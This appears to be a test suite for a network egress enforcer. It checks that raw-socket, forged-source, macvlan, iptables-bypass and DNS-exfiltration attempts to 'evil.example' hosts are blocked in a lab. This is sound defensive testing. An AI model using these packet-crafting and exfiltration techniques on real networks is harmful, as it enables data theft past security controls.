/**
 * Promise: nothing gets out of a machine in enforce mode that was not decided, whoever sends it and how: sockets with marks, raw sockets, packet
 * sockets in disguise, other protocols, namespaces with a link past the rules, rules of others, forged sources. Scored at the far end.
 */
import assert from "node:assert/strict";
import { after, before, describe, test } from "node:test";
import { fileURLToPath } from "node:url";
import { ALLOW, DNS, INBOUND, INSIDE, KERNEL, OWN, PENDING, QUIC } from "../../src/kernel/mark.ts";
import type { Machine } from "../lab/machine.ts";
import { requireTools, runTool } from "../lab/tools.ts";
import { Agent, Host, network } from "./setup.ts";

const policy = `version: 1
rules:
  - { name: web, to: [allowed.example] }
`;
const sender = fileURLToPath(new URL("./send.py", import.meta.url));
const far = { v4: "203.0.113.91", v6: "2001:db8:200::91" } as const;

let host: Host;
let agent: Agent;
/** The next hop's hardware address: on the uplink, and on the bridge. */
let router: string;
let bridge: string;

const hardwareAddress = async (at: Machine, device: string) =>
  (JSON.parse((await at.exec("ip", ["-j", "link", "show", device])).stdout) as { address: string }[])[0]!.address;

before(async () => {
  requireTools(["ip", "ncat", "ping"]);
  host = await Host.create();
  router = await hardwareAddress(host.lab.world, `${host.lab.id}-net`);
  bridge = await hardwareAddress(host.host, "br1");
  agent = await Agent.start(host, policy);
});
after(async () => {
  await agent?.stop();
  await host?.close();
});

interface Sending {
  how: string;
  at?: Machine;
  device?: string;
  mark?: number;
  source?: string;
  to?: string;
  port?: number;
  hop?: string;
  payload?: string;
}

/** Whether the datagram reached the internet. */
async function escapes(sending: Sending): Promise<boolean> {
  const marker = host.lab.marker();
  const { at = host.host, to = far.v4, mark = 0, port = 9100, hop = router, device = host.uplink } = sending;
  const own = host.lab.outside.gateway;
  const source = sending.source ?? (to.includes(":") ? own.v6 : own.v4);
  const args = [sender, sending.how, device, String(mark), sending.payload ?? marker, source, to, String(port), hop];
  const { stderr } = await at.exec("/usr/bin/python3", args);
  assert.doesNotMatch(stderr, /TypeError|NameError|SyntaxError|unpack/);
  return host.lab.sink.saw(marker);
}

const container = () => ({ at: host.container(1, 1), device: "eth0", hop: bridge });

test("the sender works: with enforcement away the same packets arrive", async () => {
  const bare = await Host.create();
  const [mine, hop] = [host, router];
  try {
    host = bare;
    router = await hardwareAddress(bare.lab.world, `${bare.lab.id}-net`);
    for (const how of ["udp", "raw", "packet", "arp", "vlan", "cooked"])
      assert.equal(await escapes({ how }), true, how);
    for (const how of ["raw", "packet"]) assert.equal(await escapes({ how, to: far.v6 }), true, `${how} IPv6`);
    const past = await besides(bare);
    for (const how of ["udp", "packet"]) assert.equal(await escapes({ ...past, how }), true, `macvlan ${how}`);
  } finally {
    [host, router] = [mine, hop];
    await bare.close();
  }
});

describe("marks, which decide nothing", () => {
  const marks = { none: 0, ALLOW, QUIC, PENDING, INSIDE, INBOUND, OWN, KERNEL, DNS, all: 0xffffffff };
  for (const [name, mark] of Object.entries(marks)) {
    test(name, async () => {
      for (const how of ["udp", "raw", "packet"]) assert.equal(await escapes({ how, mark }), false, how);
      const { v4 } = network(1).container(1);
      for (const how of ["udp", "raw"])
        assert.equal(await escapes({ ...container(), how, mark, source: v4 }), false, how);
    });
  }
});

test("packet sockets in disguise, on the machine and in containers, IPv4 and IPv6, are dropped and counted", async () => {
  const before = (await agent.status()).data_path.packet_sockets;
  const from = agent.events.length;
  for (const how of ["packet", "arp", "vlan", "cooked"]) {
    for (const to of [far.v4, far.v6]) assert.equal(await escapes({ how, to }), false, `${how} ${to}`);
  }
  const event = await agent.expect(({ reason }) => reason === "packet_socket", from);
  assert.deepEqual([event.verdict, event.data], ["deny", { interface: host.uplink }]);
  assert.equal((await agent.status()).data_path.packet_sockets - before, 8);
  for (const to of [far.v4, far.v6]) {
    const source = network(1).container(1)[to === far.v4 ? "v4" : "v6"];
    for (const how of ["packet", "cooked"]) assert.equal(await escapes({ ...container(), how, to, source }), false);
  }
});

test("a DHCP client's broadcasts pass, few and small; nothing that only looks like one does", async () => {
  const dhcp = { how: "dhcp", source: "0.0.0.0", to: "255.255.255.255", port: 67, hop: "ff:ff:ff:ff:ff:ff" };
  assert.equal(await escapes(dhcp), true);
  assert.equal(await escapes({ ...dhcp, to: far.v4 }), false);
  assert.equal(await escapes({ ...dhcp, hop: router }), false);
  assert.equal(await escapes({ ...dhcp, port: 9100 }), false);
  assert.equal(await escapes({ ...dhcp, how: "packet" }), false);
  const marker = host.lab.marker();
  assert.equal(await escapes({ ...dhcp, payload: marker + "x".repeat(700) }), false);
  assert.equal(await host.lab.sink.saw(marker), false);
  let passed = 0;
  for (let i = 0; i < 8; i++) if (await escapes(dhcp)) passed++;
  assert.ok(passed < 8, `${passed} of 8`);
});

test("forged sources: a container cannot have the machine answer a third party for it", async () => {
  const { v4 } = host.lab.outside.gateway;
  // A closed port is answered with what the packet said, to whom it said it came from.
  assert.equal(await escapes({ ...container(), how: "packet", source: far.v4, to: v4, port: 2299 }), false);
  assert.equal(await escapes({ ...container(), how: "packet", source: "203.0.113.7", to: far.v4 }), false);
  const forged = await agent.expect(({ reason }) => reason === "forged_source");
  assert.equal(forged.verdict, "deny");
  // The machine itself forges a beginning from outside, over the loopback, and answers it.
  const script = `
import socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(("${v4}", 5555))
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
import struct
body = struct.pack("!HHHH", 9100, 5555, 8 + 2, 0) + b"hi"
raw.sendto(struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(body), 1, 0, 64, 17, 0, socket.inet_aton("${far.v4}"), socket.inet_aton("${v4}")) + body, ("${v4}", 0))
s.sendto(sys.argv[1].encode(), ("${far.v4}", 9100))`;
  const marker = host.lab.marker();
  const { stderr } = await host.host.exec("/usr/bin/python3", ["-c", script, marker]);
  assert.doesNotMatch(stderr, /Error: (?!\[Errno 1\])/);
  assert.equal(await host.lab.sink.saw(marker), false);
});

test("ICMP, other protocols, fragments and bare TCP", async () => {
  const script = `
import socket, struct, sys
payload = sys.argv[1].encode(); far = "${far.v4}"
def raw(proto, body, off=0):
    h = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(body), 9, off, 64, proto, 0, socket.inet_aton("${host?.lab.outside.gateway.v4 ?? "198.51.100.2"}"), socket.inet_aton(far))
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    try: s.sendto(h + body, (far, 0))
    except OSError: pass
for proto in (1, 2, 4, 6, 41, 47, 50, 132, 253): raw(proto, b"\\x08\\x00\\x00\\x00" + payload * 2)
for kind in (3, 0, 11, 13): raw(1, bytes([kind, 3, 0, 0]) + payload * 2)
for flags in (0x02, 0x04, 0x10, 0x12, 0x14, 0x18, 0x29): raw(6, struct.pack("!HHIIBBHHH", 4444, 443, 7, 7, 0x50, flags, 1000, 0, 0) + payload)
raw(17, payload, 0x2000); raw(17, payload, 0x00b9)
s6 = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
for kind in (128, 129, 1, 3, 133, 134, 135, 136, 137, 143):
    for hops in (64, 255):
        s6.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_UNICAST_HOPS, hops)
        try: s6.sendto(bytes([kind, 0, 0, 0]) + payload, ("${far.v6}", 0))
        except OSError: pass
print("sent")`;
  for (const at of [host.host, host.container(1, 1)]) {
    const marker = host.lab.marker();
    assert.equal((await at.exec("/usr/bin/python3", ["-c", script, marker])).stdout, "sent\n");
    assert.equal(await host.lab.sink.saw(marker), false);
  }
  assert.notEqual((await host.host.exec("ping", ["-c1", "-W1", far.v4])).code, 0);
});

/** A namespace with a device of its own on the uplink, past the machine's rules. */
async function besides(on: Host): Promise<Sending & { at: Machine }> {
  const name = `${on.lab.id}-mac`;
  await runTool("ip", ["netns", "add", name]);
  await on.tool("ip", ["link", "add", "past0", "link", on.uplink, "type", "macvlan", "mode", "bridge"]);
  await on.tool("ip", ["link", "set", "past0", "netns", name]);
  const lines = ["addr add 198.51.100.77/24 dev past0", "link set past0 up", "route add default via 198.51.100.1"];
  await runTool("ip", ["-n", name, "-batch", "-"], lines.map((line) => `${line}\n`).join(""));
  return { how: "udp", at: on.lab.machine(name), device: "past0", source: "198.51.100.77" };
}

test("a namespace with a device of its own on the uplink (macvlan) does not pass", async () => {
  const past = await besides(host);
  for (const how of ["udp", "packet"]) assert.equal(await escapes({ ...past, how }), false, how);
});

test("rules of others do not open: accepting, and translating", async () => {
  const nat = ["-t", "nat", "-p", "udp", "-d", "127.0.0.9", "--dport", "9100", "-j", "DNAT", "--to", far.v4];
  await host.tool("iptables", ["-I", "OUTPUT", "1", "-j", "ACCEPT"]);
  await host.tool("iptables", ["-I", "FORWARD", "1", "-j", "ACCEPT"]);
  await host.tool("iptables", [...nat.slice(0, 2), "-A", "OUTPUT", ...nat.slice(2)]);
  await host.tool("sh", ["-c", "echo 1 > /proc/sys/net/ipv4/conf/all/route_localnet"]);
  try {
    assert.equal((await agent.status()).ruleset, "altered");
    assert.equal(await escapes({ how: "udp" }), false);
    assert.equal(await escapes({ how: "udp", to: "127.0.0.9" }), false);
    assert.equal(await escapes({ ...container(), how: "udp", source: network(1).container(1).v4 }), false);
  } finally {
    await host.tool("iptables", ["-D", "OUTPUT", "1"]);
    await host.tool("iptables", ["-D", "FORWARD", "1"]);
    await host.tool("iptables", [...nat.slice(0, 2), "-D", "OUTPUT", ...nat.slice(2)]);
    await host.tool("sh", ["-c", "echo 0 > /proc/sys/net/ipv4/conf/all/route_localnet"]);
  }
  assert.equal((await agent.status()).ruleset, "present");
});

test("DNS of its own making: names, other ports' answers and other servers carry nothing out", async () => {
  const marker = host.lab.marker();
  for (const at of [host.host, host.container(1, 1)]) {
    for (const more of [["@203.0.113.66"], ["@203.0.113.54", "+tcp"], ["@127.0.0.53"]]) {
      await at.exec("dig", ["+tries=1", "+time=2", `${marker}.evil.example`, ...more]);
    }
    await at.exec("dig", ["+tries=1", "+time=2", "-p", "5353", `${marker}.evil.example`, "@203.0.113.54"]);
  }
  assert.equal(await host.lab.sink.saw(marker), false);
});
